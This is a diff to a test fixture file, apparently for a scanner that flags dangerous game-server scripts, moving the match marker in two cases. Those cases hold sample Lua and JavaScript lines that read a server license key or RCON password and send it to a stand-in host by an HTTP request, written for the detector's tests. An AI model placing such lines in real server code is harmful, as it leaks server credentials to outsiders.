@@ -70,12 +70,12 @@ export const serverFixtures: Fixture[] = [
   js('txadmin', `^const headers = { 'X-TxAdmin-Token': token }`, `on('txAdmin:events:playerKicked', log)`),
   lua(
     'secret-and-http',
-    `^local key = GetConvar('sv_licenseKey', '')\nPerformHttpRequest('https://a.example?' .. key)`,
+    `local key = GetConvar('sv_licenseKey', '')\n^PerformHttpRequest('https://a.example?' .. key)`,
     `local key = GetConvar('sv_licenseKey', '')\nprint(#key)`,
   ),
   js(
     'secret-and-http',
-    `^const key = GetConvar('rcon_password', '')\nfetch('https://a.example?' + key)`,
+    `const key = GetConvar('rcon_password', '')\n^fetch('https://a.example?' + key)`,
     `const locale = GetConvar('locale', 'en')\nfetch('https://a.example?' + locale)`,
   ),
   lua('stops-server', `^os.exit()`, `os.date()`),
